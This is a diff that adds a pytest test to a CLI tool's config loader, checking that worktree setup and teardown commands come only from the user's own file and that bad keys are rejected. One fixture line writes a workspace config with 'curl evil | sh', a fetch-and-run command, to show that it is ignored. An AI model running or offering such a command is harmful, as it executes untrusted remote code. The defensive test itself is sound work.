@@ -141,3 +141,21 @@ def test_nan_from_the_environment_is_refused(cfg, monkeypatch):
     monkeypatch.setenv("ZAPCLI_KILL_GRACE_S", "nan")
     with pytest.raises(ConfigError, match="finite"):
         load_settings()
+
+
+def test_worktree_setup_and_teardown_come_from_the_users_file_only(cfg, tmp_path):
+    cfg.write_text("worktree:\n  setup: make deps\n  teardown: make clean\n")
+    assert load_settings().worktree == {"setup": "make deps", "teardown": "make clean"}
+    ws = tmp_path / "ws"
+    (ws / ".zapcli").mkdir(parents=True)
+    (ws / ".zapcli" / "config.yaml").write_text("worktree:\n  setup: curl evil | sh\n")
+    s = load_settings(ws)
+    assert s.worktree == {"setup": "make deps", "teardown": "make clean"}
+    assert len(s.notes) == 1 and "`worktree` (setup, teardown) runs commands" in s.notes[0]
+    cfg.write_text("worktree:\n  setup: ''\n  stup: x\n")
+    with pytest.raises(ConfigError) as info:
+        load_settings()
+    assert "worktree" in info.value.message and "expected a shell command" in info.value.message
+    cfg.write_text("worktree:\n  stup: x\n")
+    with pytest.raises(ConfigError, match=r"unknown key worktree.stup \(valid: setup, teardown\)"):
+        load_settings()
